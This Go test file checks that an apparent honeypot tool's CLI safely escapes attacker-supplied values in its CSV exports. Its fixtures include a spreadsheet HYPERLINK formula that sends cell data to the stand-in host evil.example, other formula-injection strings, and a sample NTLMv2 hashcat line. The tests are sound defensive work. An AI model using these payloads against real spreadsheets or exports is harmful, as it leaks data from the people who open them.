package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"time"

	"connectrpc.com/connect"
	"google.golang.org/protobuf/types/known/timestamppb"

	apiv1 "github.com/decnet/decnet/gen/decnet/api/v1"
	"github.com/decnet/decnet/gen/decnet/api/v1/apiv1connect"
	eventv1 "github.com/decnet/decnet/gen/decnet/event/v1"
)

// hostilePrincipal is a user name an attacker chose to run as a formula
// in a spreadsheet, with the characters CSV has to quote.
const hostilePrincipal = `=HYPERLINK("https://evil.example/?"&A1,"click, here")`

var csvTestTime = time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)

// fakeLists serves the list calls of the CSV commands with attacker text
// meant to break out of a cell or run as a formula.
type fakeLists struct {
	apiv1connect.UnimplementedEventServiceHandler
	apiv1connect.UnimplementedAttackerServiceHandler
	apiv1connect.UnimplementedCredentialServiceHandler
}

func (fakeLists) ListEvents(context.Context, *connect.Request[apiv1.ListEventsRequest]) (*connect.Response[apiv1.ListEventsResponse], error) {
	return connect.NewResponse(&apiv1.ListEventsResponse{Events: []*apiv1.StoredEvent{
		{AttackerId: "att-1", Event: &eventv1.Event{
			Id: "ev-1", Time: timestamppb.New(csvTestTime), Kind: "command.executed", Decky: "web-01", Service: "ssh",
			Source:  &eventv1.Endpoint{Address: "198.51.100.7", Port: 40000},
			Payload: &eventv1.Event_Command{Command: &eventv1.Command{Line: "-2+3\ncurl \"x\",y"}},
		}},
		{AttackerId: "att-2", Event: &eventv1.Event{
			Id: "ev-2", Time: timestamppb.New(csvTestTime), Kind: "auth.attempt", Decky: "db-01", Service: "mysql",
			Source: &eventv1.Endpoint{Address: "2001:db8::7"},
			Payload: &eventv1.Event_AuthAttempt{AuthAttempt: &eventv1.AuthAttempt{
				Principal: "@SUM(1+1)", Mechanism: "mysql_native_password", Outcome: eventv1.AuthOutcome_AUTH_OUTCOME_REJECTED,
			}},
		}},
	}}), nil
}

func (fakeLists) ListAttackers(context.Context, *connect.Request[apiv1.ListAttackersRequest]) (*connect.Response[apiv1.ListAttackersResponse], error) {
	return connect.NewResponse(&apiv1.ListAttackersResponse{Attackers: []*apiv1.Attacker{{
		Id: "att-1", Addresses: []string{"198.51.100.7", "2001:db8::7"}, EventCount: 12, AuthAttemptCount: 3,
		Services: []string{"ssh", "http"}, FirstSeen: timestamppb.New(csvTestTime), LastSeen: timestamppb.New(csvTestTime.Add(time.Hour)),
	}}}), nil
}

func (fakeLists) ListCredentials(context.Context, *connect.Request[apiv1.ListCredentialsRequest]) (*connect.Response[apiv1.ListCredentialsResponse], error) {
	return connect.NewResponse(&apiv1.ListCredentialsResponse{Credentials: []*apiv1.Credential{
		{
			EventId: "ev-3", AttackerId: "att-1", Time: timestamppb.New(csvTestTime), Decky: "web-01", Service: "ssh",
			Principal: hostilePrincipal, SecretKind: "plaintext", Mechanism: "ssh_password", Secret: []byte("+1\t=x"),
			SecretSha256: []byte{0xab, 0xcd}, Outcome: eventv1.AuthOutcome_AUTH_OUTCOME_REJECTED, SourceAddress: "198.51.100.7",
		},
		{
			EventId: "ev-4", AttackerId: "att-1", Time: timestamppb.New(csvTestTime), Decky: "web-01", Service: "ssh",
			Principal: "\troot", SecretKind: "plaintext", Mechanism: "ssh_password", SecretMasked: true,
			SecretSha256: []byte{0x01}, SourceAddress: "198.51.100.7",
		},
		{
			EventId: "ev-5", AttackerId: "att-1", Time: timestamppb.New(csvTestTime), Decky: "exch-01", Service: "smtp",
			Principal: `CORP\alice`, SecretKind: "ntlmssp_v2", Mechanism: "sasl_ntlm", Secret: []byte(ntlmLine),
			SecretSha256: []byte{0x02}, SourceAddress: "198.51.100.7",
		},
	}}), nil
}

// ntlmLine is an NTLMv2 capture as the decoys record it: a hashcat line.
const ntlmLine = "alice::CORP:0123456789abcdef:68cd0ab851e51c96aabc927bebef6a1c:0101"

func startFakeLists(t *testing.T) string {
	t.Helper()
	f := fakeLists{}
	mux := http.NewServeMux()
	mux.Handle(apiv1connect.NewEventServiceHandler(f))
	mux.Handle(apiv1connect.NewAttackerServiceHandler(f))
	mux.Handle(apiv1connect.NewCredentialServiceHandler(f))
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	return srv.URL
}

// runCSV runs a decnet command with --output csv and parses what it
// printed as RFC 4180.
func runCSV(t *testing.T, server string, args ...string) (string, [][]string) {
	t.Helper()
	var stdout, stderr bytes.Buffer
	args = append(args, "--server", server, "--output", "csv")
	if err := run(context.Background(), args, &stdout, &stderr); err != nil {
		t.Fatalf("%v: %v (%s)", args, err, stderr.String())
	}
	records, err := csv.NewReader(strings.NewReader(stdout.String())).ReadAll()
	if err != nil {
		t.Fatalf("output is not CSV: %v\n%s", err, stdout.String())
	}
	return stdout.String(), records
}

func TestEventsListCSV(t *testing.T) {
	clearClientEnv(t)
	t.Setenv("DECNET_TOKEN", "decnet_pat_unit")
	raw, got := runCSV(t, startFakeLists(t), "events", "list")

	want := [][]string{
		{"time", "kind", "decky", "service", "source_address", "source_port", "attacker_id", "event_id", "detail"},
		{"2026-03-01T12:00:00Z", "command.executed", "web-01", "ssh", "198.51.100.7", "40000", "att-1", "ev-1", `'-2+3\x0acurl "x",y`},
		{"2026-03-01T12:00:00Z", "auth.attempt", "db-01", "mysql", "2001:db8::7", "", "att-2", "ev-2", "mysql_native_password @SUM(1+1) AUTH_OUTCOME_REJECTED"},
	}
	if !slices.EqualFunc(got, want, slices.Equal) {
		t.Fatalf("records =\n%q\nwant\n%q", got, want)
	}
	if !strings.Contains(raw, `"'-2+3\x0acurl ""x"",y"`+"\r\n") {
		t.Fatalf("detail not quoted as RFC 4180 has it, with CRLF:\n%q", raw)
	}
}

func TestAttackersListCSV(t *testing.T) {
	clearClientEnv(t)
	t.Setenv("DECNET_TOKEN", "decnet_pat_unit")
	_, got := runCSV(t, startFakeLists(t), "attackers", "list")

	want := [][]string{
		{"attacker_id", "addresses", "event_count", "auth_attempt_count", "services", "first_seen", "last_seen"},
		{"att-1", "198.51.100.7;2001:db8::7", "12", "3", "ssh;http", "2026-03-01T12:00:00Z", "2026-03-01T13:00:00Z"},
	}
	if !slices.EqualFunc(got, want, slices.Equal) {
		t.Fatalf("records =\n%q\nwant\n%q", got, want)
	}
}

func TestCredentialsListCSV(t *testing.T) {
	clearClientEnv(t)
	t.Setenv("DECNET_TOKEN", "decnet_pat_unit")
	_, got := runCSV(t, startFakeLists(t), "credentials", "list")

	if len(got) != 4 {
		t.Fatalf("%d records, want a header and 3 rows: %q", len(got), got)
	}
	header := got[0]
	col := func(row []string, name string) string {
		i := slices.Index(header, name)
		if i < 0 {
			t.Fatalf("no column %q in %q", name, header)
		}
		return row[i]
	}
	for _, tc := range []struct {
		row  int
		name string
		want string
	}{
		{1, "principal", "'" + hostilePrincipal},
		{1, "secret", `'+1\x09=x`},
		{1, "secret_masked", "false"},
		{1, "secret_sha256", "abcd"},
		{1, "outcome", "AUTH_OUTCOME_REJECTED"},
		{1, "event_id", "ev-3"},
		{2, "principal", `\x09root`},
		{2, "secret", ""},
		{2, "secret_masked", "true"},
		{2, "secret_sha256", "01"},
		{3, "principal", `CORP\alice`},
		{3, "secret_kind", "ntlmssp_v2"},
		{3, "secret", ntlmLine},
	} {
		if got := col(got[tc.row], tc.name); got != tc.want {
			t.Errorf("row %d %s = %q, want %q", tc.row, tc.name, got, tc.want)
		}
	}
}

func TestCSVOnlyForListCommands(t *testing.T) {
	clearClientEnv(t)
	t.Setenv("DECNET_TOKEN", "decnet_pat_unit")
	server := startFakeLists(t)
	for _, args := range [][]string{
		{"users", "list"},
		{"webhooks", "list"},
		{"agents", "list"},
	} {
		var stdout, stderr bytes.Buffer
		err := run(context.Background(), append(args, "--server", server, "--output", "csv"), &stdout, &stderr)
		if !errors.Is(err, errUsage) || !strings.Contains(err.Error(), "--output csv is for events list") {
			t.Errorf("%v --output csv = %v, want a usage error", args, err)
		}
		if stdout.Len() != 0 {
			t.Errorf("%v printed %q", args, stdout.String())
		}
	}
}

func TestCredentialsListTableShowsNTLMLine(t *testing.T) {
	clearClientEnv(t)
	t.Setenv("DECNET_TOKEN", "decnet_pat_unit")
	var stdout, stderr bytes.Buffer
	if err := run(context.Background(), []string{"credentials", "list", "--server", startFakeLists(t)}, &stdout, &stderr); err != nil {
		t.Fatalf("%v (%s)", err, stderr.String())
	}
	lines := strings.Split(strings.TrimSpace(stdout.String()), "\n")
	if len(lines) != 4 {
		t.Fatalf("%d lines, want a header and 3 rows:\n%s", len(lines), stdout.String())
	}
	fields := strings.Fields(lines[3])
	if got := strings.Join(fields[len(fields)-3:], " "); got != `sasl_ntlm CORP\alice "`+ntlmLine+`"` {
		t.Errorf("NTLM row ends in %q, want the mechanism, principal and quoted hashcat line", got)
	}
	if !strings.HasSuffix(lines[2], "(hidden for your role)") {
		t.Errorf("masked row %q", lines[2])
	}
}
